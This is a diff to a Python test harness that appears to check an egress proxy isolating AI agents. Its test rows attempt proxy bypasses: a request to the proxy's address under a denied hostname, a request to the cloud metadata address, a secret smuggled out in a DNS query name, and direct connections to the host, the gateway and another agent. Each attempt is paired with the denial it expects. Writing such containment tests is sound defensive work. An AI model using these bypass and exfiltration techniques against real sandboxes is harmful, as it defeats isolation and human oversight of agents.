@@ -7,13 +7,15 @@ import sys
 import time
 from dataclasses import dataclass, field
 
-from stage import NEIGHBOUR, ORIGIN, OTHER, PORT, PROXY, Docker, Namespaces, call
+from stage import ORIGIN, OTHER, PORT, Docker, Namespaces
 
-# Tries all targets at once; a target is ADDRESS,PORT.
+# Tries all targets at once; a target is ADDRESS,PORT. The gateway is the address before the proxy's.
 CONNECT = """
-import concurrent.futures, socket, sys
+import concurrent.futures, ipaddress, os, socket, sys
+PROXY = ipaddress.ip_address(os.environ["http_proxy"].split("/")[2].split(":")[0])
 def reach(target):
     host, port = target.split(",")
+    host = str(PROXY - 1) if host == "gateway" else host
     try:
         socket.create_connection((host, int(port)), 2).close()
         return target
@@ -22,6 +24,11 @@ def reach(target):
 with concurrent.futures.ThreadPoolExecutor(64) as pool:
     reached = [target for target in pool.map(reach, sys.argv[1:]) if target]
 print("reached", *reached) if reached else print("nothing reached of", len(sys.argv) - 1)
+"""
+# Goes to the proxy's address under the name of another host.
+DISGUISED = """
+proxy=${http_proxy#http://}
+exec curl -sS --max-time 8 --noproxy '*' --resolve "$1:443:${proxy%:*}" "https://$1/"
 """
 DIRECT = ("--noproxy", "*")  # what a program does that knows nothing of the proxy
 HELLO = "hello from the origin"
@@ -88,7 +95,7 @@ def play(stage):
         Row("unlisted host, by HTTPS_PROXY", curl("https://evil.example.net/"), refused,
             [decided("connect", "evil.example.net", 443, "deny", "not_allowlisted")]),
         Row("denied name under the proxy's address",
-            curl(*DIRECT, "--resolve", f"{denied}:443:{PROXY}", f"https://{denied}/"), "unrecognized name",
+            ("sh", "-c", DISGUISED, "sh", denied), "unrecognized name",
             [decided("sni", denied, 443, "deny", "denied_by_rule")]),
         Row("metadata address, by the proxy", curl(f"http://{metadata}/latest/"), '"reason": ?"ip_literal"',
             [decided("http", metadata, 80, "deny", "ip_literal", status=403)]),
@@ -98,13 +105,13 @@ def play(stage):
         Row("data in a DNS name, another server", dig(f"@{ORIGIN}", f"{secret}.{denied}"),
             "no servers could be reached"),
         Row(f"the host's port, {len(hosts)} addresses of it",
-            connect(*(f"{address},{port}" for address in (*hosts, "172.30.240.1"))), UNREACHED),
+            connect(*(f"{address},{port}" for address in (*hosts, "gateway"))), UNREACHED),
         Row("the host's port, by the proxy", curl(f"http://{v4}:{port}/"), '"reason": ?"ip_literal"',
             [decided("http", v4, port, "deny", "ip_literal")]),
         Row("the origin's address, directly", connect(f"{ORIGIN},443"), UNREACHED),
         Row("a container of another network", connect(f"{OTHER},{PORT}"), UNREACHED),
-        Row("a container of the same network", connect(f"{NEIGHBOUR},{PORT}"),
-            f"reached {NEIGHBOUR}"),
+        Row("another agent", connect(f"{stage.neighbour},{PORT}"),
+            f"reached {stage.neighbour}" if stage.neighbour_is_reached else UNREACHED),
     ]  # fmt: skip
     if stage.name == "Docker":
         rows.insert(12, Row("data in a DNS name, Docker's resolver",
@@ -179,8 +186,9 @@ def aftermath(stage, requests):
     yield f"connections to the host: {reached['host']}, to the other network: {reached['other']}", (
         reached["host"] == reached["other"] == 0
     )
-    yield f"connections to the neighbour: {reached['neighbour']} (a shared bridge; see README)", (
-        reached["neighbour"] == 1
+    why = "a shared bridge; see README" if stage.neighbour_is_reached else "a network of its own"
+    yield f"connections to the other agent: {reached['neighbour']} ({why})", (
+        reached["neighbour"] == int(stage.neighbour_is_reached)
     )
 
 
